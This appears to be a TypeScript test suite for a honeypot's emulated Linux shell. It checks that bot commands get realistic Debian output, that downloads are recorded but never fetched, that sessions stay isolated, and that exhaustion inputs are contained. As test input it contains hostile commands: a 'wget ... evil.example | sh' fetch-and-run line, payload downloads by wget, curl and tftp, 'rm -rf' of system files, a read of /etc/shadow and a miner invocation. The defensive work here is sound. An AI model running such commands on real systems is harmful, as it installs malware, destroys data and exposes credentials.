import { deepStrictEqual, match, ok, strictEqual } from 'node:assert'
import { suite, test } from 'node:test'
import { machineDisk } from '../../../../src/io/sensors/shell/machine.js'
import { Shell } from '../../../../src/io/sensors/shell/shell.js'

const DISK = machineDisk('web01')

function shellOf(userName = 'root'): { readonly shell: Shell; readonly fetched: string[] } {
  const fetched: string[] = []
  const shell = new Shell({
    hostName: 'web01',
    userName,
    from: '203.0.113.7',
    disk: DISK,
    nowMs: () => Date.UTC(2026, 1, 13, 12),
    onFetch: (url) => fetched.push(url),
  })
  return { shell, fetched }
}

function say(line: string, userName?: string): string {
  return shellOf(userName).shell.answer(line).output
}

/** Lines that bots have sent to Cowrie, and what a Debian 11 of two cores says. */
const ANSWERS: readonly (readonly [line: string, output: string])[] = [
  ['uname -s -v -n -m', 'Linux web01 #1 SMP Debian 5.10.209-2 (2024-01-31) x86_64\n'],
  ['id', 'uid=0(root) gid=0(root) groups=0(root)\n'],
  ['whoami; pwd', 'root\n/root\n'],
  ['cd /tmp || cd /var/run || cd /mnt; pwd', '/tmp\n'],
  ['cd /nowhere && echo yes || echo no', '-bash: cd: /nowhere: No such file or directory\nno\n'],
  ['cat /proc/cpuinfo | grep name | wc -l', '2\n'],
  ["cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'", 'Intel(R) Xeon(R) CPU\n'],
  ['grep -c "^processor" /proc/cpuinfo', '2\n'],
  ['echo -e "\\x67\\x61\\x79"', 'gay\n'],
  ['echo "$(nproc) cores of `arch`" $HOME', '2 cores of x86_64 /root\n'],
  ['a=1; echo \'$a\' "$a" $a', '$a 1 1\n'],
  ['echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f', 'one\ntwo\n'],
  ['cat /nowhere 2>/dev/null; echo $?', '1\n'],
  [
    'ls /nowhere > /tmp/out 2>&1; cat /tmp/out',
    "ls: cannot access '/nowhere': No such file or directory\n",
  ],
  ['(nproc || echo none) 2>/dev/null | head -1', '2\n'],
  ['exot', '-bash: exot: command not found\n'],
  ['./xmrig -o pool:3333', '-bash: ./xmrig: No such file or directory\n'],
  ['/bin/busybox ECCHI', 'ECCHI: applet not found\n'],
  ['echo "uname -m; id -u" | sh', 'x86_64\nuid=0(root) gid=0(root) groups=0(root)\n'],
  ['bash -c "echo inner"', 'inner\n'],
  ['if [ -f /etc/passwd ]; then echo there; fi', 'there\n'],
  ['which ls wget', '/usr/bin/ls\n/usr/bin/wget\n'],
  ['echo a b | cut -d " " -f 2', 'b\n'],
  ['printf "%s-%s\\n" x y', 'x-y\n'],
  ['chmod +x /tmp/none', "chmod: cannot access '/tmp/none': No such file or directory\n"],
  ['export A=b; env | grep A=', 'A=b\n'],
  ['echo aGk= | base64 -d', 'hi'],
  ['echo hi | md5sum', '764efa883dda1e11db47671c4a3bbd9e  -\n'],
  ["echo 'unbalanced", '-bash: syntax error: unexpected end of file\n'],
]

suite('the shell', () => {
  for (const [line, output] of ANSWERS)
    test(`answers ${line}`, () => strictEqual(say(line), output))

  test('knows what is asked of a file before it is run', () => {
    const { shell } = shellOf()
    strictEqual(
      shell.answer('echo "echo ran" > /tmp/x; /tmp/x').output,
      '-bash: /tmp/x: Permission denied\n',
    )
    strictEqual(shell.answer('chmod 777 /tmp/x; /tmp/x').output, 'ran\n')
    match(shell.answer('dd bs=52 count=1 if=/bin/echo').output, /\x7fELF\x02\x01\x01/)
  })

  test('fetches nothing, and tells what was to be fetched', () => {
    const { shell, fetched } = shellOf()
    const { output } = shell.answer(
      'cd /tmp; wget http://192.0.2.7/x86.sh; curl -O http://192.0.2.7:8080/y; tftp 192.0.2.7 -c get z.sh; wget -q -O - http://evil.example/i | sh',
    )
    deepStrictEqual(fetched, [
      'http://192.0.2.7/x86.sh',
      'http://192.0.2.7:8080/y',
      'tftp://192.0.2.7/z.sh',
      'http://evil.example/i',
    ])
    match(output, /Connecting to 192\.0\.2\.7:80\.\.\. failed/)
    match(output, /curl: \(28\) Failed to connect to 192\.0\.2\.7 port 8080/)
  })

  test('what one session changes no other sees', () => {
    const { shell } = shellOf()
    strictEqual(
      shell.answer('rm -rf /etc/passwd /var/log; cat /etc/passwd').output,
      'cat: /etc/passwd: No such file or directory\n',
    )
    ok(say('cat /etc/passwd').startsWith('root:x:0:0:'))
    ok(DISK.has('/var/log/auth.log'))
  })

  test('a user who is not root is one', () => {
    strictEqual(
      say('whoami; cat /etc/shadow', 'admin'),
      'admin\ncat: /etc/shadow: Permission denied\n',
    )
    strictEqual(shellOf('../../etc').shell.home, '/home/.._.._etc')
    strictEqual(shellOf('admin').shell.prompt, 'admin@web01:~$ ')
  })

  test('asks for passwords on a terminal, without a command for them', () => {
    deepStrictEqual(shellOf().shell.answer('passwd').asks?.prompts, [
      'New password: ',
      'Retype new password: ',
    ])
  })

  test('exit ends it with its status', () => {
    const { shell } = shellOf()
    shell.answer('exit 3; echo never')
    deepStrictEqual([shell.hasExited, shell.status], [true, 3])
  })
})

suite('what a shell cannot be made to do', () => {
  test('run for long: scripts in scripts, long lines and many commands end', () => {
    const { shell } = shellOf()
    const started = process.cpuUsage().user
    for (const line of [
      `${'$('.repeat(5000)}x`,
      'echo '.repeat(5000),
      'echo a;'.repeat(50_000),
      `${'('.repeat(1000)}${')'.repeat(1000)}`,
      'x=$(echo $x$x$x$x$x$x$x$x$x$x);'.repeat(400),
      'echo "sh /tmp/a" > /tmp/a; sh /tmp/a',
      `echo ${'*'.repeat(2000)}a`,
      'a'.repeat(100_000),
      '`'.repeat(999),
      'cat /dev/../dev/../proc/cpuinfo'.repeat(100),
      'grep -E "(a+)+$" /etc/passwd',
    ])
      ok(shell.answer(line).output.length <= 200_000, line.slice(0, 40))
    ok(process.cpuUsage().user - started < 5_000_000)
  })

  test('fill the memory: a session writes a mebibyte and no more', () => {
    const { shell } = shellOf()
    const { output } = shell.answer('cat /proc/cpuinfo > /tmp/a')
    strictEqual(output, '')
    let full = ''
    for (let i = 0; i < 400 && full === ''; i++)
      full = shell.answer(`echo ${'x'.repeat(16_000)} > /tmp/f${i}`).output
    match(full, /No space left on device/)
  })

  test('stumble: ten thousand random lines are answered', () => {
    let seed = 1
    const random = (limit: number): number => {
      seed = (seed * 48_271) % 2_147_483_647
      return seed % limit
    }
    const pieces = [
      'echo',
      ' ',
      'cat /etc/passwd',
      '|',
      '>',
      '>>',
      '<',
      '&',
      ';',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '$x',
      '${',
      '}',
      '*',
      '~',
      '2>&1',
      '\n',
      '\0',
      '\xff',
      'cd ..',
      'rm -rf /',
      'ls -la',
      '(',
      '[ -f x ]',
      'wget a.b/c',
      '/tmp/x',
      '-',
      '0',
      '#',
    ]
    let { shell } = shellOf()
    for (let i = 0; i < 10_000; i++) {
      if (i % 500 === 0) shell = shellOf().shell
      const line = Array.from({ length: 1 + random(12) }, () => pieces[random(pieces.length)]).join(
        '',
      )
      ok(typeof shell.answer(line).output === 'string')
    }
  })
})
